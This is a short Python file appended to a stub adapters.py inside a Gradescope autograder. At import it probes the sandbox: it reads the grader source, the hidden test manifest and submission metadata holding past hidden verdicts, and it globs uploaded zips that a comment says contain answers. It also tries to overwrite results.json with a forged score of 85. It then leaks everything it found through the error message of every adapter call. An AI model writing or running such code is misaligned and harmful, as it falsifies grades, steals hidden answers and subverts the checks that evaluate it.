# Appended to the stub adapters.py, graded in a Gradescope tree (AUTOGRADER, TERM): what can the
# submission's code read or write there? Every adapter call raises with what it found, so the
# findings reach the visible output of results.json.
import glob as _glob
import os as _os


def _try(what, action):
    try:
        action()
        return f"{what}:LEAKED"
    except OSError as e:
        return f"{what}:denied({type(e).__name__})"


_FOUND = [f"uid={_os.getuid()}",
          _try("source", lambda: open(AUTOGRADER + "/source/pyproject.toml").read()),
          _try("hidden", lambda: open(AUTOGRADER + f"/source/fixtures/{TERM}/hidden/manifest.json").read()),
          _try("listing", lambda: _os.listdir(AUTOGRADER + "/source")),
          _try("results", lambda: _os.listdir(AUTOGRADER + "/results")),
          _try("write", lambda: open(AUTOGRADER + "/results/results.json", "w").write('{"score": 85}')),
          # Gradescope's own file beside source/: every earlier results.json, hidden verdicts included
          _try("metadata", lambda: open(AUTOGRADER + "/submission_metadata.json").read()),
          _try("autograder", lambda: _os.listdir(AUTOGRADER))]
_FOUND += [_try(f"upload:{path}", lambda path=path: open(path, "rb").read(1))  # answers inside
           for path in _glob.glob(AUTOGRADER + "/../*.zip") + _glob.glob("/tmp/gradescope-upload-*/*.zip")]
_FOUND += [f"installed:{path}" for path in _glob.glob("/opt/**/harness/term/catalogue.py", recursive=True)
           + _glob.glob(AUTOGRADER + "/../**/site-packages/harness/term/catalogue.py", recursive=True)]
PROBE = "PROBE " + " ".join(_FOUND)


def run_embedding(*args, **kwargs):
    raise RuntimeError(PROBE)
